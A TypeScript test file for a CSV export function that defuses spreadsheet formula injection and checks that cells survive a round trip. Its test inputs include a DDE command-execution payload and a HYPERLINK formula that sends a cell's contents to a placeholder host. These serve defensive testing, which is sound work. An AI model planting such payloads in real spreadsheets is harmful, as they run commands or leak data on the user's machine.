// Cells that a spreadsheet shows as text, whatever separator it believes in, and that come back as they were.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cell } from '../../src/export/cells.ts'
import { readCsv } from '../../src/import/containers/csv.ts'
import { anyText, hasPython, independent, withoutPython } from './kit.ts'

/** Cells as a program with this separator sees them, by Python's own reader. */
const cellsWith = (separator: string, table: string): string[][] => independent('read_table.py', [separator], table)

/** Excel and LibreOffice compute from such a beginning; what follows + - @ has to do something. */
const computes = (text: string): boolean => /^[\t\r\n]*(?:=|[+\-@].*[("'!|#$%&*<>\\{}[\]^`~])/su.test(text)

describe('a cell', () => {
  it.each([
    ['=1+1', ' =1+1'],
    ['=HYPERLINK("http://x/?"&G2)', ' =HYPERLINK(""http://x/?""&G2)'],
    ['+SUM(1)', ' +SUM(1)'],
    ["-cmd|'/c calc'!A0", " -cmd|'/c calc'!A0"],
    ['@SUM(1)', ' @SUM(1)'],
    ['a;=1+1;b', 'a; =1+1;b'],
    ['két sor\n=1+1', 'két sor\n =1+1'],
    ['a\t=1+1', 'a\t =1+1'],
    [';;=1', ';; =1'],
    ['a\t"=1', 'a\t ""=1'],
    ['\t=1+1', ' =1+1'],
  ])('with a formula gets a blank in front of it: %j', (text, quoted) => {
    expect(cell(text)).toBe(`"${quoted}"`)
  })

  it.each([
    'Ügyfélkapu+',
    '+36 20 123 4567',
    '+36-20/123.4567',
    '@anna',
    '-',
    '- tej\n- kenyér',
    '-anna@minta.hu',
    'a=b',
    'a;b',
    'otpauth://totp/a?secret=B',
    '',
  ])('without one stays as it is: %j', (text) => {
    expect(cell(text)).toBe(`"${text}"`)
  })

  it('doubles quotes and drops NUL', () => {
    expect(cell('a"b\0c')).toBe('"a""bc"')
  })

  it('comes back as it was, but for blanks after separators inside', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyText(30), { minLength: 1, maxLength: 5 }), async (texts) => {
        const names = texts.map((_, i) => `c${i}`)
        const table = await readCsv(`${names.map(cell).join(',')}\n${texts.map(cell).join(',')}\n`)
        const back = names.map((name) => table?.rows[0]?.get(name))
        const bare = (text: string | undefined) => text?.replace(/([;\t\r\n]) (?="*[=+@-])/g, '$1')
        expect(back.map(bare)).toEqual(texts.map((text) => bare(text.replaceAll('\0', '').trim())))
      }),
    )
  })

  it.runIf(hasPython)(`is no formula to a reader of commas, semicolons or tabs${withoutPython}`, async () => {
    const FORMULAS = ['=1+1', '+SUM(1)', '-1|x!A', '@SUM(1)', ';', '\t', '\n', '\r', '"', ',', ' ', 'a']
    const text = fc.array(fc.constantFrom(...FORMULAS), { maxLength: 8 }).map((parts) => parts.join(''))
    const row = fc.tuple(text, text, text)
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 50 }), (rows) => {
        const table = rows.map((one) => `${one.map(cell).join(',')}\n`).join('')
        for (const separator of [',', ';', '\t']) {
          expect(cellsWith(separator, table).flat().filter(computes)).toEqual([])
        }
      }),
      { numRuns: 15 },
    )
  })
})
